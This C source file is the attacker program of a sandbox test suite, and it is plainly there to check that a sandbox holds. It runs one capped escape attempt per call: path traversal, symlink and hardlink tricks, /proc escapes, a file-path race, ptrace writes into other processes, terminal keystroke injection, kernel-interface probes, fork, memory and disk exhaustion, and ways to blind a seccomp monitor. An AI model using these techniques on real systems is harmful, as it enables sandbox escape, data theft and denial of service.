/* The hostile guest of the security corpus: one attack per invocation.
 *
 *   pp-attack TOKEN CASE ARGS...
 *
 * It prints "start CASE" first (so the harness can tell "the guest ran" from
 * "the guest never started"), then one "attempt WHAT: ok ..." or
 * "attempt WHAT: err ERRNO" line per try, and anything it manages to read
 * from a target file verbatim (the harness looks for the planted token).
 * Whatever the guest prints is never taken as proof of safety: the harness
 * decides "escaped" from what it observes on the host itself.
 *
 * Every attack is bounded (counts, sizes, times) so that even with no
 * sandbox at all (the `native` backend) it cannot harm the machine. */
#define _GNU_SOURCE
#include <errno.h>
#include <fcntl.h>
#include <linux/bpf.h>
#include <linux/filter.h>
#include <linux/io_uring.h>
#include <linux/perf_event.h>
#include <linux/seccomp.h>
#include <netinet/in.h>
#include <pthread.h>
#include <sched.h>
#include <signal.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/ioctl.h>
#include <sys/mman.h>
#include <sys/mount.h>
#include <sys/prctl.h>
#include <sys/ptrace.h>
#include <sys/socket.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <sys/un.h>
#include <sys/wait.h>
#include <time.h>
#include <unistd.h>

static const char *token;

static void attempt(const char *what, long rc)
{
	if (rc < 0)
		printf("attempt %s: err %s\n", what, strerrorname_np(errno) ? strerrorname_np(errno) : "?");
	else
		printf("attempt %s: ok %ld\n", what, rc);
	fflush(stdout);
}

static void sleep_ms(long ms)
{
	struct timespec ts = {ms / 1000, (ms % 1000) * 1000000L};
	while (nanosleep(&ts, &ts) != 0 && errno == EINTR)
		;
}

/* Reads up to 4 KiB of a file and prints it; returns 1 if it was read. */
static int dump_fd(const char *what, int fd)
{
	char buf[4096];
	ssize_t n = read(fd, buf, sizeof(buf) - 1);
	if (n < 0) {
		attempt(what, -1);
		return 0;
	}
	buf[n] = 0;
	printf("read %s: %s\n", what, buf);
	fflush(stdout);
	return 1;
}

static int read_path(const char *what, const char *path)
{
	int fd = open(path, O_RDONLY);
	attempt(what, fd);
	if (fd < 0)
		return 0;
	int ok = dump_fd(what, fd);
	close(fd);
	return ok;
}

static void write_canary(const char *what, const char *dir)
{
	char path[4096];
	snprintf(path, sizeof(path), "%s/canary-%s-%s", dir, what, token);
	int fd = open(path, O_WRONLY | O_CREAT | O_TRUNC, 0644);
	attempt(what, fd);
	if (fd >= 0) {
		attempt("canary-write", write(fd, token, strlen(token)));
		close(fd);
	}
}

/* ---- file-system escapes ---- */

static int case_dotdot(const char *secret)
{
	char path[8192];
	strcpy(path, "");
	for (int i = 0; i < 16; i++)
		strcat(path, "../");
	strcat(path, secret + 1);
	read_path("dotdot-relative", path);
	snprintf(path, sizeof(path), "/../../..%s", secret);
	read_path("dotdot-absolute", path);
	return 0;
}

static int case_symlink_scratch(const char *secret)
{
	char name[256];
	snprintf(name, sizeof(name), "sl-abs-%s", token);
	attempt("symlink-absolute", symlink(secret, name));
	read_path("open-symlink-absolute", name);
	snprintf(name, sizeof(name), "sl-rel-%s", token);
	attempt("symlink-relative", symlink("../secret/secret.txt", name));
	read_path("open-symlink-relative", name);
	return 0;
}

static int case_hardlink(const char *secret)
{
	char name[256];
	snprintf(name, sizeof(name), "hl-%s", token);
	attempt("link", link(secret, name));
	read_path("open-hardlink", name);
	attempt("linkat-follow", linkat(AT_FDCWD, secret, AT_FDCWD, "hl2", AT_SYMLINK_FOLLOW));
	read_path("open-hardlink2", "hl2");
	return 0;
}

static int case_proc_fd(const char *pid, const char *secret)
{
	char path[4096];
	for (int fd = 0; fd < 16; fd++) {
		snprintf(path, sizeof(path), "/proc/%s/fd/%d", pid, fd);
		/* Non-blocking, and only regular files: the victim's pipes would block a read. */
		int f = open(path, O_RDONLY | O_NONBLOCK);
		struct stat st;
		if (f >= 0 && fstat(f, &st) == 0 && S_ISREG(st.st_mode)) {
			printf("attempt %s: ok %d\n", path, f);
			dump_fd(path, f);
		}
		if (f >= 0)
			close(f);
	}
	printf("attempt proc-fd-scan: done\n");
	snprintf(path, sizeof(path), "/proc/%s/cwd/secret.txt", pid);
	read_path("proc-pid-cwd", path);
	snprintf(path, sizeof(path), "/proc/%s/root%s", pid, secret);
	read_path("proc-pid-root", path);
	return 0;
}

struct race {
	char buf[512];
	char a[512], b[512];
	volatile int stop;
	volatile unsigned long flips;
};

static void *flipper(void *arg)
{
	struct race *r = arg;
	size_t n = sizeof(r->buf);
	while (!r->stop) {
		memcpy(r->buf, r->b, n);
		__asm__ volatile("" ::: "memory");
		memcpy(r->buf, r->a, n);
		__asm__ volatile("" ::: "memory");
		r->flips++;
	}
	return NULL;
}

static int case_race(const char *allowed, const char *secret, long tries)
{
	static struct race r;
	snprintf(r.a, sizeof(r.a), "%s", allowed);
	snprintf(r.b, sizeof(r.b), "%s", secret);
	memcpy(r.buf, r.a, sizeof(r.buf));
	pthread_t t;
	if (pthread_create(&t, NULL, flipper, &r) != 0) {
		attempt("pthread_create", -1);
		return 0;
	}
	/* A try only races if the flipper ran while the path was being read:
	 * on a loaded machine it may not run at all during a burst of fast
	 * (native) opens, and the positive control would then lose for a
	 * reason unrelated to the sandbox.  So count the opens during which the
	 * flipper made progress, and go on until `tries` of them raced (bounded
	 * at 1000 x tries opens in all). */
	long opened = 0, failed = 0, won = 0, raced = 0, i;
	char data[256];
	for (i = 0; !won && raced < tries && i < 1000 * tries; i++) {
		unsigned long flips = r.flips;
		int fd = open(r.buf, O_RDONLY);
		raced += r.flips != flips;
		if (fd < 0) {
			failed++;
			continue;
		}
		opened++;
		ssize_t n = read(fd, data, sizeof(data) - 1);
		close(fd);
		if (n > 0) {
			data[n] = 0;
			if (strncmp(data, "SECRET", 6) == 0) {
				won = i + 1;
				printf("read race: %s\n", data);
			}
		}
	}
	r.stop = 1;
	pthread_join(t, NULL);
	printf("attempt race: tries %ld raced %ld opened %ld refused %ld won_at %ld\n", i, raced, opened, failed,
	       won);
	return 0;
}

/* ---- network, processes, terminals ---- */

static int case_tcp(const char *port)
{
	int s = socket(AF_INET, SOCK_STREAM, 0);
	attempt("socket", s);
	if (s < 0)
		return 0;
	struct sockaddr_in a = {.sin_family = AF_INET, .sin_port = htons((uint16_t)atoi(port)),
				.sin_addr.s_addr = htonl(0x7f000001)};
	int rc = connect(s, (struct sockaddr *)&a, sizeof(a));
	attempt("connect-127.0.0.1", rc);
	if (rc == 0)
		attempt("send-token", send(s, token, strlen(token), 0));
	close(s);
	return 0;
}

static int case_unix(const char *path, int abstract)
{
	int s = socket(AF_UNIX, SOCK_STREAM, 0);
	attempt("socket", s);
	if (s < 0)
		return 0;
	struct sockaddr_un a = {.sun_family = AF_UNIX};
	socklen_t len;
	if (abstract) {
		a.sun_path[0] = 0;
		strncpy(a.sun_path + 1, path, sizeof(a.sun_path) - 2);
		len = (socklen_t)(offsetof(struct sockaddr_un, sun_path) + 1 + strlen(path));
	} else {
		strncpy(a.sun_path, path, sizeof(a.sun_path) - 1);
		len = sizeof(a);
	}
	int rc = connect(s, (struct sockaddr *)&a, len);
	attempt(abstract ? "connect-abstract" : "connect-path", rc);
	if (rc == 0)
		attempt("send-token", send(s, token, strlen(token), 0));
	close(s);
	return 0;
}

static int case_kill(const char *pid_s)
{
	pid_t pid = (pid_t)atoi(pid_s);
	if (pid <= 1 || pid == getpid() || pid == getppid()) {
		printf("attempt kill: skipped (pid %d is this guest's own or init)\n", pid);
		return 0;
	}
	attempt("kill-SIGTERM", kill(pid, SIGTERM));
	attempt("kill-SIGKILL", kill(pid, SIGKILL));
	return 0;
}

static int case_ptrace(const char *pid_s, const char *addr_s)
{
	pid_t pid = (pid_t)atoi(pid_s);
	unsigned long addr = strtoul(addr_s, NULL, 0);
	if (pid <= 1 || pid == getpid() || pid == getppid()) {
		printf("attempt ptrace: skipped (pid %d is this guest's own or init)\n", pid);
		return 0;
	}
	long rc = ptrace(PTRACE_ATTACH, pid, 0, 0);
	attempt("ptrace-attach", rc);
	if (rc == 0) {
		int st;
		waitpid(pid, &st, __WALL);
		attempt("ptrace-poke", ptrace(PTRACE_POKEDATA, pid, (void *)addr, (void *)0x6666666666666666UL));
		attempt("ptrace-detach", ptrace(PTRACE_DETACH, pid, 0, 0));
	}
	rc = ptrace(PTRACE_SEIZE, pid, 0, 0);
	attempt("ptrace-seize", rc);
	if (rc == 0)
		ptrace(PTRACE_DETACH, pid, 0, 0);
	return 0;
}

static void sti(const char *what, int fd)
{
	char line[128];
	snprintf(line, sizeof(line), "echo %s\n", token);
	long rc = 0;
	for (char *c = line; *c && rc == 0; c++)
		rc = ioctl(fd, TIOCSTI, c);
	attempt(what, rc);
}

static int case_tiocsti(const char *pts)
{
	int fd = open(pts, O_RDWR | O_NOCTTY);
	attempt("open-host-pty", fd);
	if (fd >= 0)
		sti("tiocsti-host-pty", fd);
	for (int i = 0; i < 3; i++) {
		char what[32];
		snprintf(what, sizeof(what), "tiocsti-fd%d", i);
		sti(what, i);
	}
	int tty = open("/dev/tty", O_RDWR | O_NOCTTY);
	attempt("open-dev-tty", tty);
	if (tty >= 0)
		sti("tiocsti-dev-tty", tty);
	return 0;
}

/* ---- kernel attack surface: each object is held for HOLD ms so that the
 * harness's sampler of /proc/PID/fd, /proc/keys, mountinfo sees it. ---- */

static int case_io_uring(long hold)
{
	struct io_uring_params p;
	memset(&p, 0, sizeof(p));
	long fd = syscall(SYS_io_uring_setup, 4, &p);
	attempt("io_uring_setup", fd);
	if (fd >= 0)
		sleep_ms(hold);
	return 0;
}

static int case_bpf(long hold)
{
	union bpf_attr attr;
	memset(&attr, 0, sizeof(attr));
	attr.map_type = BPF_MAP_TYPE_ARRAY;
	attr.key_size = 4;
	attr.value_size = 4;
	attr.max_entries = 1;
	long fd = syscall(SYS_bpf, BPF_MAP_CREATE, &attr, sizeof(attr));
	attempt("bpf-map-create", fd);
	if (fd >= 0)
		sleep_ms(hold);
	return 0;
}

static int case_userfaultfd(long hold)
{
	long fd = syscall(SYS_userfaultfd, O_CLOEXEC | O_NONBLOCK);
	attempt("userfaultfd", fd);
	int dev = open("/dev/userfaultfd", O_RDWR | O_CLOEXEC);
	attempt("open-dev-userfaultfd", dev);
	long fd2 = -1;
	if (dev >= 0) {
		fd2 = ioctl(dev, _IO(0xAA, 0x00) /* USERFAULTFD_IOC_NEW */, O_CLOEXEC);
		attempt("userfaultfd-ioc-new", fd2);
	}
	if (fd >= 0 || fd2 >= 0)
		sleep_ms(hold);
	return 0;
}

static int case_perf(long hold)
{
	struct perf_event_attr a;
	memset(&a, 0, sizeof(a));
	a.type = PERF_TYPE_SOFTWARE;
	a.size = sizeof(a);
	a.config = PERF_COUNT_SW_CPU_CLOCK;
	a.disabled = 1;
	a.exclude_kernel = 1;
	a.exclude_hv = 1;
	long fd = syscall(SYS_perf_event_open, &a, 0, -1, -1, 0);
	attempt("perf_event_open", fd);
	if (fd >= 0)
		sleep_ms(hold);
	return 0;
}

static int case_keyctl(long hold)
{
	char desc[128];
	snprintf(desc, sizeof(desc), "pp-%s", token);
	/* Into the session keyring the guest was started with: under a backend
	 * that shares the host's keyrings that is the harness's own, so the
	 * harness possesses the key and can remove it; a keyring the sandbox made
	 * for the guest dies with it. */
	long id = syscall(SYS_add_key, "user", desc, "x", 1, -3 /* KEY_SPEC_SESSION_KEYRING */);
	attempt("add_key", id);
	long id2 = syscall(SYS_keyctl, 0 /* KEYCTL_GET_KEYRING_ID */, -3 /* session */, 1);
	attempt("keyctl-get-session-keyring", id2);
	if (id >= 0) {
		sleep_ms(hold);
		attempt("keyctl-invalidate", syscall(SYS_keyctl, 21 /* KEYCTL_INVALIDATE */, id));
	}
	return 0;
}

static int case_unshare(long hold)
{
	sleep_ms(hold);
	long rc = unshare(CLONE_NEWUSER);
	attempt("unshare-newuser", rc);
	if (rc == 0)
		sleep_ms(hold);
	return 0;
}

static int case_mount(long hold)
{
	char dir[256], src[256];
	snprintf(dir, sizeof(dir), "mnt-%s", token);
	snprintf(src, sizeof(src), "pp-%s", token);
	attempt("mkdir", mkdir(dir, 0755));
	long rc = mount(src, dir, "tmpfs", 0, "size=1m");
	attempt("mount-tmpfs", rc);
	long rc2 = syscall(SYS_fsopen, "tmpfs", 0);
	attempt("fsopen", rc2);
	if (rc == 0 || rc2 >= 0)
		sleep_ms(hold);
	if (rc == 0)
		attempt("umount", umount2(dir, MNT_DETACH));
	return 0;
}

static int case_open_by_handle(const char *dir, const char *type_s, const char *hex)
{
	unsigned char bytes[128];
	size_t n = strlen(hex) / 2;
	if (n > sizeof(bytes))
		n = sizeof(bytes);
	for (size_t i = 0; i < n; i++)
		sscanf(hex + 2 * i, "%2hhx", &bytes[i]);
	struct file_handle *fh = malloc(sizeof(*fh) + n);
	fh->handle_bytes = (unsigned)n;
	fh->handle_type = atoi(type_s);
	memcpy(fh->f_handle, bytes, n);
	int mfd = open(dir, O_RDONLY | O_DIRECTORY);
	attempt("open-mount-dir", mfd);
	int fd = open_by_handle_at(mfd >= 0 ? mfd : AT_FDCWD, fh, O_RDONLY);
	attempt("open_by_handle_at", fd);
	if (fd >= 0)
		dump_fd("open_by_handle_at", fd);
	struct file_handle *mine = malloc(sizeof(*mine) + 128);
	mine->handle_bytes = 128;
	int mount_id;
	attempt("name_to_handle_at", name_to_handle_at(AT_FDCWD, ".", mine, &mount_id, 0));
	return 0;
}

/* ---- resource abuse (bounded by its arguments) ---- */

static int case_forkbomb(long max, long hold)
{
	long forked = 0, failed = 0;
	int first_err = 0;
	for (long i = 0; i < max; i++) {
		pid_t p = fork();
		if (p == 0) {
			sleep_ms(hold);
			_exit(0);
		}
		if (p < 0) {
			failed++;
			if (!first_err)
				first_err = errno;
			if (failed > 64)
				break;
		} else {
			forked++;
		}
	}
	printf("attempt forkbomb: forked %ld failed %ld first_error %s\n", forked, failed,
	       first_err ? strerrorname_np(first_err) : "none");
	fflush(stdout);
	while (wait(NULL) > 0 || errno == EINTR)
		;
	return 0;
}

static int case_membomb(long max_mb)
{
	long mb = 0;
	for (; mb < max_mb; mb += 16) {
		char *p = mmap(NULL, 16 << 20, PROT_READ | PROT_WRITE, MAP_PRIVATE | MAP_ANONYMOUS, -1, 0);
		if (p == MAP_FAILED) {
			printf("attempt membomb: allocated %ld MiB, then %s\n", mb, strerrorname_np(errno));
			return 0;
		}
		memset(p, 0x5a, 16 << 20);
		if (mb % 128 == 0) {
			printf("attempt membomb: touched %ld MiB\n", mb + 16);
			fflush(stdout);
		}
	}
	printf("attempt membomb: allocated %ld MiB (its own cap)\n", mb);
	return 0;
}

static int case_fdbomb(long max, long hold)
{
	long n = 0;
	int err = 0;
	for (; n < max; n++) {
		if (open("/dev/null", O_RDONLY) < 0) {
			err = errno;
			break;
		}
	}
	printf("attempt fdbomb: opened %ld then %s\n", n, err ? strerrorname_np(err) : "its own cap");
	fflush(stdout);
	sleep_ms(hold);
	return 0;
}

static int case_diskfill(long max_mb)
{
	char name[256];
	snprintf(name, sizeof(name), "fill-%s", token);
	int fd = open(name, O_WRONLY | O_CREAT | O_TRUNC, 0644);
	attempt("create-fill", fd);
	if (fd < 0)
		return 0;
	static char chunk[1 << 20];
	memset(chunk, 0x41, sizeof(chunk));
	long written = 0;
	int err = 0;
	while (written < (max_mb << 20)) {
		ssize_t n = write(fd, chunk, sizeof(chunk));
		if (n <= 0) {
			err = n < 0 ? errno : ENOSPC;
			break;
		}
		written += n;
	}
	printf("attempt diskfill: wrote %ld bytes then %s\n", written, err ? strerrorname_np(err) : "its own cap");
	close(fd);
	return 0;
}

static int case_cpuburn(long seconds)
{
	/* The guest's own end is `seconds` of its own CPU time, or twice that
	 * of wall time if the host gives it less: a spin timed by the wall
	 * clock alone may, on a loaded host, never use the CPU the limit
	 * allows, and end by itself without testing the limit at all. */
	struct timespec start, now, cpu;
	volatile unsigned long x = 0;
	clock_gettime(CLOCK_MONOTONIC, &start);
	printf("attempt cpuburn: spinning for up to %ld s of CPU\n", seconds);
	fflush(stdout);
	do {
		for (int i = 0; i < 1000000; i++)
			x += (unsigned long)i;
		clock_gettime(CLOCK_PROCESS_CPUTIME_ID, &cpu);
		clock_gettime(CLOCK_MONOTONIC, &now);
	} while (cpu.tv_sec < seconds && now.tv_sec - start.tv_sec < 2 * seconds);
	printf("attempt cpuburn: finished its own %ld s\n", seconds);
	return 0;
}

/* ---- attacks on the monitor itself ---- */

static long raw_openat(const char *path, int flags)
{
	return syscall(SYS_openat, AT_FDCWD, path, flags, 0644);
}

static void raw_attempts(const char *secret, const char *outside)
{
	long fd = raw_openat(secret, O_RDONLY);
	attempt("raw-openat-secret", fd);
	if (fd >= 0)
		dump_fd("raw-openat-secret", (int)fd);
	char path[4096];
	snprintf(path, sizeof(path), "%s/canary-raw-%s", outside, token);
	fd = raw_openat(path, O_WRONLY | O_CREAT);
	attempt("raw-openat-canary", fd);
	if (fd >= 0)
		attempt("canary-write", write((int)fd, token, strlen(token)));
}

static int case_sigsys(const char *secret, const char *outside)
{
	struct {
		void *handler;
		unsigned long flags;
		void *restorer;
		unsigned long mask;
	} ksa = {SIG_IGN, 0, NULL, 0};
	attempt("rt_sigaction-SIGSYS-ignore", syscall(SYS_rt_sigaction, SIGSYS, &ksa, NULL, 8));
	unsigned long set = 1UL << (SIGSYS - 1);
	attempt("rt_sigprocmask-block-SIGSYS", syscall(SYS_rt_sigprocmask, SIG_BLOCK, &set, NULL, 8));
	raw_attempts(secret, outside);
	return 0;
}

static int case_seccomp_blind(const char *secret, const char *outside)
{
	/* Allow everything, with a listener of its own and on every thread: a
	 * monitor that a guest's filter could pre-empt or whose notifications a
	 * guest listener could steal would be blinded here. */
	struct sock_filter allow[] = {BPF_STMT(BPF_RET | BPF_K, SECCOMP_RET_ALLOW)};
	struct sock_fprog prog = {1, allow};
	attempt("prctl-no_new_privs", prctl(PR_SET_NO_NEW_PRIVS, 1, 0, 0, 0));
	attempt("seccomp-allow-all+listener",
		syscall(SYS_seccomp, SECCOMP_SET_MODE_FILTER,
			SECCOMP_FILTER_FLAG_NEW_LISTENER | SECCOMP_FILTER_FLAG_TSYNC, &prog));
	raw_attempts(secret, outside);
	return 0;
}

int main(int argc, char **argv)
{
	if (argc < 3) {
		fprintf(stderr, "usage: pp-attack TOKEN CASE ARGS...\n");
		return 2;
	}
	token = argv[1];
	const char *c = argv[2];
	char **a = argv + 3;
	int n = argc - 3;
	printf("start %s\n", c);
	fflush(stdout);
/* An expression, so that "return NEED(k), attack(...)" reads as one line. */
#define NEED(k) ((n < (k)) ? (fprintf(stderr, "pp-attack %s: needs %d arguments\n", c, (k)), exit(2), 0) : 0)
	if (!strcmp(c, "read"))
		return NEED(1), read_path("open-secret", a[0]), 0;
	if (!strcmp(c, "write"))
		return NEED(1), write_canary("outside", a[0]), 0;
	if (!strcmp(c, "dotdot"))
		return NEED(1), case_dotdot(a[0]);
	if (!strcmp(c, "symlink-scratch"))
		return NEED(1), case_symlink_scratch(a[0]);
	if (!strcmp(c, "symlink-mount"))
		return NEED(1), read_path("open-planted-symlink", a[0]), 0;
	if (!strcmp(c, "hardlink"))
		return NEED(1), case_hardlink(a[0]);
	if (!strcmp(c, "proc-root")) {
		NEED(1);
		char p[4096];
		snprintf(p, sizeof(p), "/proc/self/root%s", a[0]);
		read_path("proc-self-root", p);
		snprintf(p, sizeof(p), "/proc/1/root%s", a[0]);
		read_path("proc-1-root", p);
		return 0;
	}
	if (!strcmp(c, "proc-cwd")) {
		NEED(1);
		char p[8192] = "/proc/self/cwd/";
		for (int i = 0; i < 16; i++)
			strcat(p, "../");
		strcat(p, a[0] + 1);
		read_path("proc-self-cwd-dotdot", p);
		attempt("chdir-proc-self-root", chdir("/proc/self/root"));
		read_path("relative-from-proc-root", a[0] + 1);
		return 0;
	}
	if (!strcmp(c, "proc-fd"))
		return NEED(2), case_proc_fd(a[0], a[1]);
	if (!strcmp(c, "race"))
		return NEED(3), case_race(a[0], a[1], atol(a[2]));
	if (!strcmp(c, "tcp"))
		return NEED(1), case_tcp(a[0]);
	if (!strcmp(c, "unix"))
		return NEED(1), case_unix(a[0], 0);
	if (!strcmp(c, "unix-abstract"))
		return NEED(1), case_unix(a[0], 1);
	if (!strcmp(c, "kill"))
		return NEED(1), case_kill(a[0]);
	if (!strcmp(c, "ptrace"))
		return NEED(2), case_ptrace(a[0], a[1]);
	if (!strcmp(c, "tiocsti"))
		return NEED(1), case_tiocsti(a[0]);
	if (!strcmp(c, "io_uring"))
		return NEED(1), case_io_uring(atol(a[0]));
	if (!strcmp(c, "bpf"))
		return NEED(1), case_bpf(atol(a[0]));
	if (!strcmp(c, "userfaultfd"))
		return NEED(1), case_userfaultfd(atol(a[0]));
	if (!strcmp(c, "perf_event_open"))
		return NEED(1), case_perf(atol(a[0]));
	if (!strcmp(c, "keyctl"))
		return NEED(1), case_keyctl(atol(a[0]));
	if (!strcmp(c, "unshare"))
		return NEED(1), case_unshare(atol(a[0]));
	if (!strcmp(c, "mount"))
		return NEED(1), case_mount(atol(a[0]));
	if (!strcmp(c, "open_by_handle_at"))
		return NEED(3), case_open_by_handle(a[0], a[1], a[2]);
	if (!strcmp(c, "forkbomb"))
		return NEED(2), case_forkbomb(atol(a[0]), atol(a[1]));
	if (!strcmp(c, "membomb"))
		return NEED(1), case_membomb(atol(a[0]));
	if (!strcmp(c, "fdbomb"))
		return NEED(2), case_fdbomb(atol(a[0]), atol(a[1]));
	if (!strcmp(c, "diskfill"))
		return NEED(1), case_diskfill(atol(a[0]));
	if (!strcmp(c, "cpuburn"))
		return NEED(1), case_cpuburn(atol(a[0]));
	if (!strcmp(c, "sigsys"))
		return NEED(2), case_sigsys(a[0], a[1]);
	if (!strcmp(c, "seccomp-blind"))
		return NEED(2), case_seccomp_blind(a[0], a[1]);
	fprintf(stderr, "pp-attack: unknown case %s\n", c);
	return 2;
}
